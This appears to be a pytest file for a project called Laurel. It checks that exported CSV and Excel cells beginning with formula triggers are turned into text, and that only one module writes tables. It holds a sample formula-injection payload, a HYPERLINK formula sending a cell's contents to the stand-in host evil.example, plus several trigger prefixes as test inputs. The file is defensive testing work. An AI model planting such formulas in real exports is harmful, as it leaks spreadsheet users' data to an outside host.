"""Every table that leaves Laurel goes through laurel.core.tables, which makes a cell a
spreadsheet would run as a formula into text."""

import ast
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from laurel.core.tables import cell, csv_text, workbook_response

LAUREL = Path(__file__).resolve().parents[2] / "laurel"
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


@pytest.mark.parametrize(
    "value",
    [PAYLOAD, "+1", "-1", "@SUM(A1)", "|calc", "%macro", "\tx", "\rx", " =1+1", "  @SUM(A1)",
     "\n=1+1", " \t|calc", "\u00a0=1+1"],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_is_made_text(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Trygga Nätet", "a=b", "50%", "Save the Children | SE", ""])
def test_an_ordinary_text_is_left_as_it_is(value):
    assert cell(value) == value


def test_a_value_that_is_not_text_is_made_safe_as_text():
    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert cell(Named()) == "'=1+1"


def test_every_sheet_of_a_workbook_is_made_safe():
    response = workbook_response(
        "w", [("One", ["name"], [[PAYLOAD]]), ("Two", ["name", "n"], [[" +1", 2]])]
    )

    book = load_workbook(BytesIO(response.content))
    assert [sheet.title for sheet in book] == ["One", "Two"]
    assert book["One"]["A2"].value == "'" + PAYLOAD
    assert [c.value for c in book["Two"][2]] == ["' +1", 2]
    assert response["Cache-Control"] == "no-store, private"


def test_csv_text_is_made_safe():
    assert csv_text(["a", "b"], [["|x", 1]]) == "a,b\r\n'|x,1\r\n"


def _writers(tree: ast.AST) -> list[str]:
    """Where a module writes CSV or builds a workbook itself."""
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module in {"csv", "openpyxl"}:
            found += [f"from {node.module} import {alias.name}" for alias in node.names]
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names if alias.name == "openpyxl"]
        text = node.value if isinstance(node, ast.Constant) else None
        if isinstance(text, str) and (text.startswith("text/csv") or text == "openpyxl"):
            found.append(repr(text))
    return found


def test_no_module_but_core_tables_writes_a_table():
    offenders = {}
    for path in sorted(LAUREL.rglob("*.py")):
        if path == LAUREL / "core" / "tables.py" or "migrations" in path.parts:
            continue
        found = _writers(ast.parse(path.read_text(), filename=str(path)))
        if found:
            offenders[str(path.relative_to(LAUREL))] = found

    assert offenders == {}
